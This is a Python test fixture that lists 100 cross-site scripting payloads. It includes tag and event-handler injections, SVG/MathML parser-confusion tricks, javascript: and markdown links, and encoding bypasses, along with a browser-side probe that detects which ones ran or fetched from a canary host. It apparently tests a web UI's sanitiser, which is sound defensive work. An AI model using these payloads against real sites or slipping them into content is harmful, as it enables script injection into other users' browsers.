"""A hundred texts that want to run in a page that shows them, or to fetch something from it.

What runs calls ``xss(1)``; what fetches asks for something with ``canary`` in its address.
"""

from __future__ import annotations

_RUN = "xss(1)"
_AWAY = "http://canary.invalid/canary"

_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={away}.js></script>",
    "<script\n>{run}</script\n>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<script type=module>{run}</script>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={away}></iframe>",
    "<object data='javascript:{run}'></object>",
    "<object data={away}></object>",
    "<embed src={away}>",
    "<base href=//canary.invalid/>",
    "<link rel=stylesheet href={away}.css>",
    "<link rel=prefetch href={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<frameset onload={run}>",
)
_HANDLERS = (
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "`><img src=x onerror={run}>",
    "<img src={away}.png>",
    "<img srcset='{away}.png 1x'>",
    "<image href={away}.png>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<video src=x onerror={run}></video>",
    "<video poster={away}.png></video>",
    "<audio src=x onerror={run}></audio>",
    "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='animation: x 1s' onanimationstart={run}>x</div>",
    "<div style='background: url({away}.png)'>x</div>",
    "<style>@import url({away}.css)</style>",
    "<style>*{{background:url({away}.png)}}</style>",
    "<form action={away}><input type=submit autofocus onfocus={run}></form>",
    "<button popovertarget=x onbeforetoggle={run}>x</button>",
    '" autofocus onfocus={run} x="',
    "' onmouseover={run} style='position:fixed;inset:0' x='",
    "x onerror={run}",
)
_DRAWN = (
    "<svg onload={run}>",
    '"><svg onload={run}>',
    "<svg><script>{run}</script></svg>",
    "<svg><a href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><image href={away}.svg /></svg>",
    "<svg><use href='{away}.svg#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></iframe></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math href='javascript:{run}'>x</math>",
    "<svg></p><style><a title='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<table><td background={away}.png>x</td></table>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
)
_LINKS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "[a](javascript:{run})",
    "[a](javascript&#58;{run})",
    "[a](<javascript:{run}>)",
    "[a](data:text/html,<script>{run}</script>)",
    "[a]: javascript:{run}\n\n[a]",
    "![a]({away}.png)",
    "![a](x' onerror='{run})",
    '[a](http://x.invalid/"onmouseover="{run})',
    "<javascript:{run}>",
)
_TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{% for x in [].__class__.__mro__ %}}{{% endfor %}}{{{{7*7}}}}",
    "`;{run};//",
    "';{run};//",
    '\\";{run};//',
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "＜script＞{run}＜/script＞",
    "\u202e<script>{run}</script>\u202c",
    "<\u0000script>{run}</script>",
    "data: x\n\nevent: answer\ndata: <script>{run}</script>",
)
_ALL = (*_TAGS, *_HANDLERS, *_DRAWN, *_LINKS, *_TEMPLATES)
_NESTED = "<b>" * 500 + f"<img src=x onerror={_RUN}>"
PAYLOADS = (*(text.format(run=_RUN, away=_AWAY) for text in _ALL), _NESTED)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 100, len(PAYLOADS)

# Counts what runs, even inside of frames that were put into the page.
COUNT = "window.__xss = 0; window.xss = () => { window.__xss += 1; };"
# What a text became instead of text: elements and attributes that nobody of us writes.
BECAME = """() => {
    const found = [];
    const search = (root) => {
        for (const part of root.querySelectorAll("*")) {
            if (part.shadowRoot) search(part.shadowRoot);
            for (const { name, value } of part.attributes) {
                if (/^on/.test(name) && /xss/.test(value)) found.push(`${part.tagName} ${name}`);
                const fetches = /^(src|srcset|data|poster|background|style)$/.test(name);
                const leads = /^(href|src|action|formaction|data|xlink:href)$/.test(name);
                const runs = /^[\\s\\x00-\\x1f]*(javascript|vbscript|data:text)/i.test(value);
                if (leads && runs || fetches && /canary/.test(value))
                    found.push(`${part.tagName} ${name}=${value}`);
            }
            const tag = part.tagName.toLowerCase();
            const strange = "iframe object embed frame frameset marquee xmp listing".split(" ");
            if (strange.includes(tag)) found.push(tag);
            if (tag === "base" && /canary/.test(part.href)) found.push(tag);
            const plain = !/application/.test(part.type ?? "");
            const script = plain && ["script", "style"].includes(tag);
            if (script && !window.gradio_config && /xss\\(|canary/.test(part.textContent))
                found.push(tag);
        }
    };
    search(document);
    return found;
}"""
